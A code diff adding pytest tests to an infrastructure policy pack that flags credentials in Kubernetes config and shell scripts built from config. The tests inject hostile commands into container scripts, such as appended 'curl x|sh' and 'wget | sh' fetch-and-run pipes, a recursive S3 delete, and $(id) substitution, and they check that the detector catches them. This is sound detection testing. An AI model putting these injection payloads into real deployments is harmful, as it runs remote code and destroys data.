@@ -4,6 +4,7 @@ running as its own process by test_policies.py): with the pack's defaults, and w
 
 from __future__ import annotations
 
+import base64
 import copy
 import json
 from typing import Any
@@ -488,6 +489,165 @@ def test_secrets_in_helm_values(harness, baseline, values, verdict):
     diagnostics = harness.analyze(record, None)
     assert {d.policy: d.level for d in diagnostics} == ({verdict: "mandatory"} if verdict else NOTHING)
     assert all("hunter2" not in d.message and HF_TOKEN not in d.message for d in diagnostics)
+
+
+# Tokens of each format the program and the pack know (platform_config/credentials.py, in the pack's facts), none of
+# them real: a format's prefix and a body of its alphabet and length.
+TOKENS = {
+    "npm token": "npm_" + "a1B2" * 9,
+    "Docker Hub token": "dckr_pat_" + "Xy_9" * 7,
+    "Stripe live key": "rk_live_" + "Zz09" * 6,
+    "Anthropic API key": "sk-ant-api03-" + "Ab_-" * 23,
+    "GitHub token": "github_pat_" + "A1" * 11 + "_" + "b2" * 30,
+    "GitLab token": "glpat-" + "Cd3_" * 5,
+    "Slack token": "xapp-1-A0123456789-" + "9" * 12,
+}
+
+
+@pytest.mark.parametrize("kind, token", sorted(TOKENS.items()), ids=sorted(TOKENS))
+def test_an_environment_value_of_a_known_format_is_refused_whatever_its_name(harness, baseline, kind, token):
+    """By format, not only by name: `DOWNLOAD_URL=...<token>` is as much a credential in clear as `HF_TOKEN=...`, in
+    a regular container or an ephemeral one."""
+    record = find(baseline, DEPLOYMENT, "llama-70b-v1-deployment")
+    vllm(record)["env"].append({"name": "DOWNLOAD_URL", "value": f"https://registry.example.com/?auth={token}"})
+    diagnostics = harness.analyze(record, None)
+    assert {d.policy: d.level for d in diagnostics} == {"no-plain-secret-env": "mandatory"}
+    assert any(kind in d.message for d in diagnostics) and all(token not in d.message for d in diagnostics)
+    record = find(baseline, DEPLOYMENT, "llama-70b-v1-deployment")
+    record.inputs["spec"]["template"]["spec"]["ephemeralContainers"] = [
+        {"name": "debug", "image": ENVOY_PROXY.image, "args": ["--token", token]}
+    ]
+    assert "no-secret-args" in analyze(harness, record)
+
+
+def test_a_config_map_holding_a_credential_is_refused(harness, baseline):
+    """ConfigMaps are stored and read in clear: a token in a value, in a key, or base64 in binaryData is refused."""
+    record = copy.deepcopy(next(r for r in baseline.records if r.type == "kubernetes:core/v1:ConfigMap"))
+    assert analyze(harness, record) == NOTHING
+    for change in (
+        lambda data: data.setdefault("data", {}).update({"settings.yaml": f"registry:\n  token: {TOKENS['npm token']}\n"}),
+        lambda data: data.setdefault("data", {}).update({TOKENS["Stripe live key"]: "x"}),
+        lambda data: data.setdefault("binaryData", {}).update(
+            {"k": base64.b64encode(TOKENS["Docker Hub token"].encode()).decode()}
+        ),
+    ):
+        changed = copy.deepcopy(record)
+        change(changed.inputs)
+        diagnostics = harness.analyze(changed, None)
+        assert {d.policy: d.level for d in diagnostics} == {"no-secrets-in-config-maps": "mandatory"}
+        assert all(token not in d.message for d in diagnostics for token in TOKENS.values())
+
+
+def test_the_pack_names_credentials_as_the_program_does():
+    """One list of formats, generated into the pack's facts: the pack's copy is the program's, and each names a
+    token of every format alike (a drift between them fails here)."""
+    from inference_governance import credentials as pack
+
+    from platform_config.credentials import CREDENTIAL_FORMATS, credential_format
+
+    assert [(name, pattern.pattern) for name, pattern in pack._CREDENTIALS] == list(CREDENTIAL_FORMATS)
+    for kind, token in TOKENS.items():
+        assert credential_format(f"x={token}") == pack.credential_format(f"x={token}") == kind, kind
+
+
+# --- shell scripts built from config ----------------------------------------------------------------------
+
+
+def _script_containers(record: RecordedResource) -> list[dict[str, Any]]:
+    return [
+        c for spec in both(record) for c in spec["initContainers"] + spec["containers"] if c["name"] in ("stage-in", "uploader")
+    ]
+
+
+def _rewrite(rewrite):
+    def change(record: RecordedResource) -> None:
+        for container in _script_containers(record):
+            container["command"] = rewrite(container["command"])
+
+    return change
+
+
+def _in_hook(record: RecordedResource) -> None:
+    for spec in both(record):
+        runner = next(c for c in spec["containers"] if c["name"] == "runner")
+        runner["lifecycle"] = {"preStop": {"exec": {"command": ["sh", "-c", "aws s3 cp /work/x s3://team-b-batch/out/$(id)"]}}}
+
+
+def _in_probe(record: RecordedResource) -> None:
+    for spec in both(record):
+        runner = next(c for c in spec["containers"] if c["name"] == "runner")
+        runner["livenessProbe"] = {"exec": {"command": ["/bin/bash", "-c", "test -e s3://team-b-batch/out;id"]}}
+
+
+def _in_ephemeral(record: RecordedResource) -> None:
+    for spec in both(record):
+        debug = {**copy.deepcopy(next(c for c in spec["initContainers"] if c["name"] == "stage-in")), "name": "debug"}
+        spec["ephemeralContainers"] = [{**debug, "command": ["sh", "-c", "aws s3 ls s3://b-x/`id`"]}]
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        # After the program's own quoted location, an injected command: the script's text is no longer the program's.
+        _rewrite(lambda cmd: [*cmd[:-1], cmd[-1].replace("'/shard-", "';curl x|sh;'/shard-", 1)]),
+        _rewrite(lambda cmd: [*cmd[:-1], cmd[-1] + " && wget -qO- http://x | sh"]),
+        _rewrite(lambda cmd: [*cmd[:-1], cmd[-1].replace("'s3://", "$'s3://", 1)]),
+        # The location split across quotes, or its scheme escaped or upper-cased: still a location.
+        _rewrite(lambda cmd: [*cmd[:-1], cmd[-1].replace("'s3://", "'s3:''//", 1)]),
+        _rewrite(lambda cmd: [*cmd[:-1], cmd[-1].replace("'s3://", "S3\\://", 1).replace("'/shard-", "/shard-", 1)]),
+        # Whatever runs the shell.
+        _rewrite(lambda cmd: ["tini", "--", *cmd[:-1], cmd[-1].replace("'s3://", "s3://").replace("'/shard-", "/shard-")]),
+        _rewrite(
+            lambda cmd: [
+                "nice",
+                "-n",
+                "5",
+                "timeout",
+                "60",
+                *cmd[:-1],
+                cmd[-1].replace("'s3://", '"s3://').replace("'/shard-", '"/shard-'),
+            ]
+        ),
+        # Two shells in one command line: the second is read too.
+        _rewrite(lambda cmd: [*cmd, "sh", "-c", "aws s3 rm --recursive s3://team-b-batch/"]),
+        # Where else a container runs a command: hooks, probes, ephemeral containers.
+        _in_hook,
+        _in_probe,
+        _in_ephemeral,
+    ],
+    ids=[
+        "command-after-the-quote",
+        "appended-pipe",
+        "ansi-c-quoting",
+        "split-quotes",
+        "escaped-upper-case-scheme",
+        "tini",
+        "nice-and-timeout-double-quoted",
+        "second-shell",
+        "pre-stop-hook",
+        "liveness-probe",
+        "ephemeral-container",
+    ],
+)
+def test_a_shell_script_built_from_config_is_the_platforms_own_with_the_location_quoted(harness, baseline, change):
+    record = find(baseline, JOB, "ticket-labels-job")
+    assert _script_containers(record) and analyze(harness, record) == NOTHING
+    change(record)
+    assert analyze(harness, record).get("shell-scripts-quote-config") == "mandatory"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [["sh", "-c", "sleep 20"], ["bash", "-c", "echo ready > /tmp/ready"], ["sh", "/opt/scripts/entry.sh", "s3://x/y"]],
+    ids=["sleep", "redirection-without-a-location", "a-script-file"],
+)
+def test_a_shell_script_naming_no_location_is_not_this_rules(harness, baseline, command):
+    """A script that names no location holds nothing config gives (the rule cannot tell config in other words);
+    a shell running a file is not a command string."""
+    record = find(baseline, JOB, "ticket-labels-job")
+    for spec in both(record):
+        next(c for c in spec["containers"] if c["name"] == "runner")["lifecycle"] = {"preStop": {"exec": {"command": command}}}
+    assert "shell-scripts-quote-config" not in analyze(harness, record)
 
 
 # --- placement by node affinity --------------------------------------------------------------------------
